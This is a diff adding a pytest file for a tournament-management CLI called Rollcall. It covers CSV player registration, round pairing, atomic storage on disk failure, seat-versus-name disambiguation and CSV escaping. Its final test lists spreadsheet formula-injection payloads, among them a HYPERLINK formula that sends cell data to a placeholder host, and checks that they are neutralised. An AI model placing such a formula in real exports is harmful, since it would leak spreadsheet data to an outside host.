@@ -1,0 +1,187 @@
+"""A tournament begun outside Rollcall and carried on in it, from the command line over a real SQLite store and
+DuckDB read models: players registered from a pairing tool's CSV or from the games, rounds 1–3 imported as
+records, round 4 paired; a pairing stored whole or not at all; results by seat or by name; CSV a
+spreadsheet opens without running anything."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import sqlite3
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from cli.main import app as cli
+from elsewhere import PLAYERS, met_before, players_csv, round_records
+
+NAME = "Paper Cup"
+
+
+@pytest.fixture
+def run(tmp_data: Path, monkeypatch: pytest.MonkeyPatch):
+    monkeypatch.delenv("ROLLCALL_KEY", raising=False)
+    runner = CliRunner()
+
+    def invoke(*args: str, ok: bool = True):
+        result = runner.invoke(cli, [*args, "--data", str(tmp_data)])
+        if ok:
+            assert result.exit_code == 0, result.output
+        else:
+            assert result.exit_code == 1 and "Traceback" not in result.output, result.output
+        return result
+
+    return invoke
+
+
+def import_rounds(run, tmp_path: Path, rounds=(1, 2, 3)) -> None:
+    for round_no in rounds:
+        for table, lines in enumerate(round_records(NAME, round_no), start=1):
+            path = tmp_path / f"r{round_no}-t{table}.rollcall.jsonl"
+            path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+            run("import", str(path))
+
+
+@pytest.fixture
+def begun(run, tmp_path: Path) -> Path:
+    """Created, the players registered from the CSV, rounds 1-3 imported."""
+    run("tournament", "create", NAME, "--system", "t9a")
+    listed = tmp_path / "players.csv"
+    listed.write_bytes(players_csv())
+    run("tournament", "register", NAME, "--csv", str(listed))
+    import_rounds(run, tmp_path)
+    return listed
+
+
+def test_an_organiser_registers_from_csv_imports_three_rounds_and_pairs_the_fourth(run, begun: Path) -> None:
+    players = json.loads(run("tournament", "players", NAME, "--json").stdout)
+    assert [(p["player"], p["faction"], p["club"]) for p in players] == list(PLAYERS)
+    again = run("tournament", "register", NAME, "--csv", str(begun)).output
+    assert "registered 0 players in Paper Cup; already registered: Anna Lind, Boris Brandt" in again
+    assert len(json.loads(run("tournament", "players", NAME, "--json").stdout)) == 8, "nobody twice"
+    refused = run("tournament", "pair", NAME, "--round", "1", ok=False).output
+    assert "round 1 cannot be paired: the next round of Paper Cup is 4 (round 1 has 4 game(s) already)" in refused
+    printed = run("tournament", "pair", NAME, "--round", "4", "--seed", "1").output
+    assert "round 4 of Paper Cup: 4 tables" in printed
+    round_four = json.loads(run("tournament", "pairings", NAME, "--json").stdout)
+    assert [r["round"] for r in round_four] == [4] * 4 and round_four[0]["player"] == "Anna Lind"
+    assert not {frozenset((r["player"], r["opponent"])) for r in round_four} & met_before(4)
+    round_one = json.loads(run("tournament", "pairings", NAME, "--round", "1", "--json").stdout)
+    assert [(r["table_no"], r["game"], r["result"]) for r in round_one] == [
+        (t, f"paper-r1-t{t}", "W") for t in (1, 2, 3, 4)], "the imported round shows as its games"
+    listed = run("tournament", "list").output
+    assert "Paper Cup  t9a  16 games, 4 rounds" in listed
+
+
+def test_a_bad_player_list_names_the_file_line_and_field_and_registers_nobody(run, tmp_path: Path) -> None:
+    run("tournament", "create", NAME, "--system", "t9a")
+    listed = tmp_path / "players.csv"
+    listed.write_text("Name,Faction\nAnna,orcs\nBoris\n", encoding="utf-8")
+    refused = run("tournament", "register", NAME, "--csv", str(listed), ok=False).output
+    assert f"error: {listed}:3: field `faction` is empty" in refused
+    assert "no players registered" in run("tournament", "players", NAME).output
+    missing = run("tournament", "register", NAME, "--csv", str(tmp_path / "none.csv"), ok=False).output
+    assert "none.csv: cannot be read (No such file or directory)" in missing
+    both = run("tournament", "register", NAME, "--csv", str(listed), "--from-games", ok=False).output
+    assert "name one: --player NAME, --csv FILE or --from-games" in both
+
+
+def test_the_players_of_imported_games_register_from_the_games(run, tmp_path: Path) -> None:
+    run("tournament", "create", NAME, "--system", "t9a")
+    import_rounds(run, tmp_path, rounds=(1,))
+    refused = run("tournament", "pair", NAME, "--round", "2", ok=False).output
+    assert "0 player(s) to pair" in refused and "--from-games` registers the 8 players of its games" in refused
+    assert "registered 8 players in Paper Cup" in run("tournament", "register", NAME, "--from-games").output
+    players = json.loads(run("tournament", "players", NAME, "--json").stdout)
+    assert sorted((p["player"], p["faction"]) for p in players) == sorted((n, f) for n, f, _ in PLAYERS)
+    assert "registered 0 players" in run("tournament", "register", NAME, "--from-games").output
+    assert "round 2 of Paper Cup: 4 tables" in run("tournament", "pair", NAME, "--round", "2").output
+
+
+def test_a_fault_in_the_middle_of_storing_a_pairing_leaves_nothing_stored(tmp_data: Path) -> None:
+    from domain.application import Rollcall
+    from domain.integrity import GAME_CREATED
+    from domain.tournaments import registrations
+
+    store = Rollcall.open(tmp_data)
+    store.create_tournament(NAME, "t9a")
+    store.register_players(NAME, registrations(players_csv(), "players.csv"))
+    before = store.recorder.max_notification_id()
+    insert, created = store.recorder._insert_events, []
+
+    def fails_at_the_third_game(cursor, stored_events, **kwargs):
+        """Writes the rows before the third game's header, then the disk fills up."""
+        for i, event in enumerate(stored_events):
+            if event.topic == GAME_CREATED:
+                created.append(event)
+                if len(created) == 3:
+                    insert(cursor, stored_events[:i], **kwargs)
+                    raise sqlite3.OperationalError("database or disk is full")
+        return insert(cursor, stored_events, **kwargs)
+
+    store.recorder._insert_events = fails_at_the_third_game
+    with pytest.raises(Exception, match="disk is full"):
+        store.pair_round(NAME, 1, seed=1)
+    store.close()
+    assert len(created) == 3, "the fault came in the middle of the round's games"
+    again = Rollcall.open(tmp_data)
+    try:
+        assert again.recorder.max_notification_id() == before, "nothing of the pairing was stored"
+        assert again.tournament(NAME).rounds == {} and not list(again.headers())
+        paired = again.pair_round(NAME, 1, seed=1)  # the same pairing goes through once the disk has room
+        assert [again.stored_lines(t["game"])[0]["table"] for t in paired["tables"]] == [1, 2, 3, 4]
+    finally:
+        again.close()
+
+
+def test_a_player_named_p2_is_no_seat_id_in_disguise(run, tmp_path: Path) -> None:
+    from domain.scenarios import scenarios
+
+    run("tournament", "create", "Club Night", "--system", "t9a")
+    header = {"rollcall": 1, "system": "t9a", "game": "club-r1-t1", "tournament": "Club Night", "round": 1,
+              "table": 1, "players": [{"id": "p1", "name": "P2"}, {"id": "p2", "name": "Boris"}],
+              "setup": next(iter(scenarios("t9a").values()))}
+    path = tmp_path / "club.rollcall.jsonl"
+    path.write_text(json.dumps(header) + "\n", encoding="utf-8")
+    run("import", str(path))
+    refused = run("tournament", "result", "Club Night", "--round", "1", "--table", "1", "--score", "P2=3",
+                  "--score", "Boris=1", ok=False).output
+    assert "'P2' at table 1 of round 1 reads two ways: seat p2, who is Boris, or the player named P2, who sits as " \
+           "p1; write seat:p2=VP or name:P2=VP" in refused.replace("\n", " ")
+    done = run("tournament", "result", "Club Night", "--round", "1", "--table", "1", "--score", "name:P2=3",
+               "--score", "Boris=1").output
+    assert "ended p1 3, p2 1; winner p1" in done
+
+
+# --- CSV a spreadsheet opens as text ---------------------------------------------------------------------
+
+FORMULAS = ('=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)")
+
+
+def test_names_a_spreadsheet_would_run_are_written_as_text_in_every_tournament_csv(run, tmp_path: Path) -> None:
+    run("tournament", "create", "Club Night", "--system", "t9a")
+    listed = tmp_path / "players.csv"
+    with listed.open("w", encoding="utf-8", newline="") as f:
+        writer = csv.writer(f)
+        writer.writerow(["name", "faction", "club"])
+        for i, formula in enumerate(FORMULAS):
+            writer.writerow([formula, f"={i}faction", f"@club{i}"])
+        writer.writerow(["Anna - the second", "orcs", ""])
+    run("tournament", "register", "Club Night", "--csv", str(listed))
+    run("tournament", "pair", "Club Night", "--round", "1", "--seed", "1")
+    run("tournament", "result", "Club Night", "--round", "1", "--table", "1", "--score", "p1=3", "--score", "p2=1")
+    for command, columns in (("standings", ("player", "faction", "club")),
+                             ("pairings", ("player", "faction", "opponent", "opponent_faction")),
+                             ("results", ("player", "faction", "opponent", "opponent_faction"))):
+        rows = list(csv.DictReader(io.StringIO(run("tournament", command, "Club Night", "--csv").stdout)))
+        cells = [r[c] for r in rows for c in columns if r[c]]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], command
+        names = {c for r in rows for c in (r["player"], r.get("opponent")) if c}
+        assert names == {"'" + f for f in FORMULAS} | {"Anna - the second"}, command
+    standing = {r["player"]: r for r in csv.DictReader(io.StringIO(run("tournament", "standings", "Club Night",
+                                                                        "--csv").stdout))}
+    assert standing["'+1+1"]["club"] == "'@club1" and standing["'+1+1"]["faction"] == "'=1faction"
+    assert sorted(r["vp_diff"] for r in standing.values() if r["games"] == "1") == ["-2", "2"], \
+        "numbers stay numbers, a negative one too"
